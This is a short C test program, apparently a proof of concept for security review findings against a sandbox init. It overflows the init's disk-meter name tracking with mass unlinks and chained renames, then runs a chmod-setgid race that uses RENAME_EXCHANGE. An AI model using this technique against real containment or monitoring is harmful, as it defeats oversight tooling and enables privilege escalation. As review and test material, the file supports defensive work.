/* Review 89 F3: more written names than the init's disk meter keeps
 * (DiskMeter::MAX_NAMES, 100,000), then review 88 F2's chmod-g+s race.
 * usage: setid_flood FLOODDIR RACEDIR NAMES RENAMES ROUNDS [DEPTH]
 * In FLOODDIR/n0: NAMES unlinks of names that do not exist (each an allowed,
 * noted write), then RENAMES renames n0 -> n1 -> ... (each notes every name
 * kept below the old name again below the new one: NAMES * (1 + RENAMES)
 * names in all, in a few seconds), then, with DEPTH, a chain of DEPTH nested
 * directories in FLOODDIR. Then the race in RACEDIR (chmod("x", 02755) while
 * a thread swaps x and y, RENAME_EXCHANGE); prints "hit=0|1" and exits 0. */
#include "setid_race.h"
#include <stdlib.h>

int main(int argc, char **argv) {
    if (argc < 6) return 2;
    int names = atoi(argv[3]), renames = atoi(argv[4]), rounds = atoi(argv[5]);
    int depth = argc > 6 ? atoi(argv[6]) : 0;
    if (chdir(argv[1]) || mkdir("n0", 0755)) return 3;
    char a[64], b[64];
    for (int i = 0; i < names; i++) {
        snprintf(a, sizeof a, "n0/nx%d", i);
        unlink(a);
    }
    for (int r = 0; r < renames; r++) {
        snprintf(a, sizeof a, "n%d", r);
        snprintf(b, sizeof b, "n%d", r + 1);
        if (rename(a, b)) return 4;
    }
    for (int d = 0; d < depth; d++)
        if (mkdir("d", 0755) || chdir("d")) return 5;
    fprintf(stderr, "flooded %d names, %d renames, %d deep\n", names, renames, depth);
    if (chdir(argv[2])) return 3;
    if (race(rounds) < 0) return 2;
    return 0;
}
